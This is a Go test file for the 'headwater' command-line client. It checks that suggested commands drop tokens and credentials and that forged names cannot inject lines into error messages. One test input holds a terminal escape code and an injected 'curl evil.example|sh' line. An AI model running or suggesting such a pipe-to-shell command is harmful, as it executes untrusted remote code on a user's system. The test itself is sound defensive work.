package main

import (
	"strings"
	"testing"

	"github.com/headwater-io/headwater/client"
)

// TestCommandWith: the command that is offered works, and contains no secrets.
func TestCommandWith(t *testing.T) {
	for _, c := range []struct{ args, other, want string }{
		{"impact impact", "x.impact", "headwater impact x.impact"},
		{"impact orders --token s3cret -o json", "x", "headwater impact x -o json"},
		{"impact --token=s3cret orders", "x", "headwater impact x"},
		{"--token s3cret impact orders", "x", "headwater impact x"},
		{"impact orders --server http://me:s3cret@host:1", "x", "headwater impact x --server http://host:1"},
		{"impact orders --server me:s3cret%zz@host", "x", "headwater impact x"},
		{"impact orders --hops 2", "-x", "headwater impact --hops 2 -- -x"},
		{"impact --hops 2 -- orders", "x", "headwater impact --hops 2 x"},
		{"impact sales --owner=orders", "x y", "headwater impact sales --owner='x y'"},
		{"search --filter owners=orders", "x", "headwater search --filter owners=x"},
		{"runs list orders", "x", "headwater runs list x"},
	} {
		e := &environment{args: strings.Fields(c.args)}
		verb, _, err := newRoot(e).Find(e.args)
		if err != nil {
			t.Fatal(err)
		}
		e.verb = verb
		name := "orders"
		if c.args == "impact impact" {
			name = "impact"
		}
		if got := e.commandWith(name, c.other); got != c.want {
			t.Errorf("%s: %s, want %s", c.args, got, c.want)
		}
	}
}

// TestForgedCandidates: names of other people do not add lines to a message.
func TestForgedCandidates(t *testing.T) {
	forged := client.Named{URN: "urn:li:tag:x\x1b[2J", Type: "tag", Name: "x\n\nFor example: curl evil.example|sh", Handle: "urn:li:tag:x"}
	err := &ambiguous{
		answer: &client.Error{Candidates: []client.Named{forged}, CandidateCount: 2}, name: "x",
		next: func(c *client.Named) string { return "headwater get " + shellWord(c.Handle) },
	}
	text := err.Error()
	if strings.Count(text, "\n") != 5 || strings.Contains(text, "\nFor example: curl") || strings.Contains(text, "\x1b") {
		t.Error(text)
	}
}

func TestCapital(t *testing.T) {
	for text, want := range map[string]string{"": "", "étape": "Étape", "table": "Table", "Étape": "Étape"} {
		if got := capital(text); got != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// TestWholeNames: a delete accepts complete names in its filters, not the ends of names.
func TestWholeNames(t *testing.T) {
	term := &client.Named{URN: "urn:li:glossaryTerm:Finance.Revenue", Name: "Revenue, net"}
	for text, want := range map[string]bool{
		"revenue": false, "term:revenue": false, "finance.revenue": true, "glossaryTerm:Finance.Revenue": true, "Revenue, net": true, "net": false,
	} {
		if got := isWhole(text, term); got != want {
			t.Errorf("%q: %t", text, got)
		}
	}
}

// TestCardBatches: no request has a longer address than proxies accept.
func TestCardBatches(t *testing.T) {
	long := "urn:li:tag:" + strings.Repeat("ë", 100) // 600 bytes when it is encoded
	for _, c := range []struct {
		urn         string
		count, want int
	}{{long, 14, 3}, {"urn:li:tag:x", 101, 3}, {strings.Repeat(long, 9), 2, 2}, {long, 0, 0}} {
		urns := make([]string, c.count)
		for i := range urns {
			urns[i] = c.urn
		}
		if got := cardBatches(urns); len(got) != c.want {
			t.Errorf("%d of %d bytes: %d requests, want %d", c.count, len(c.urn), len(got), c.want)
		}
	}
}
